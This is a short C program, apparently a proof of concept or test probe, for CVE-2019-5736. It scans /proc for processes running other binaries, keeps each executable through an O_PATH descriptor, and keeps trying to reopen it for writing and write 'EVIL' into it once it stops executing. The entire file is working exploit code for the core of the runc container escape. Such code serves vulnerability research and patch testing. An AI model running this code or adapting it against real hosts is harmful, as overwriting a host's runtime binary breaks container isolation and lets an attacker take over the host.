/* Looks at every process that it sees until it finds one that executes something else than this
   program, keeps that file by a descriptor that does not count as an open of it, and tries to write
   to it from the moment at which nobody executes it any more (CVE-2019-5736).  Prints "caught" for
   each file that it got, and what came of writing to it.  */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

enum
{
  TRIES = 10000
};

static struct stat own;

static int is_own (int fd)
{
  struct stat st;

  return fstat (fd, &st) < 0 || (st.st_dev == own.st_dev && st.st_ino == own.st_ino);
}

static void overwrite (int kept)
{
  char path[64];
  int error = 0;

  snprintf (path, sizeof path, "/proc/self/fd/%d", kept);
  for (int i = 0; i < TRIES; i++)
    {
      int fd = open (path, O_WRONLY | O_CLOEXEC);
      if (fd >= 0)
        {
          printf ("%s\n", write (fd, "EVIL", 4) == 4 ? "written" : "opened, but not written");
          close (fd);
          return;
        }
      error = errno;
      usleep (100);
    }
  printf ("not opened: %s\n", strerror (error));
}

static void look_at (const char *pid)
{
  char path[300];

  snprintf (path, sizeof path, "/proc/%s/exe", pid);
  int fd = open (path, O_PATH | O_CLOEXEC);
  if (fd < 0)
    return;
  if (!is_own (fd))
    {
      printf ("caught\n");
      overwrite (fd);
    }
  close (fd);
}

int main (void)
{
  setvbuf (stdout, NULL, _IOLBF, 0);
  if (stat ("/proc/self/exe", &own) < 0)
    return 1;
  printf ("ready\n");
  for (;;)
    {
      DIR *proc = opendir ("/proc");
      if (proc == NULL)
        return 1;
      for (struct dirent *entry; (entry = readdir (proc)) != NULL;)
        if (isdigit ((unsigned char)entry->d_name[0]))
          look_at (entry->d_name);
      closedir (proc);
    }
}
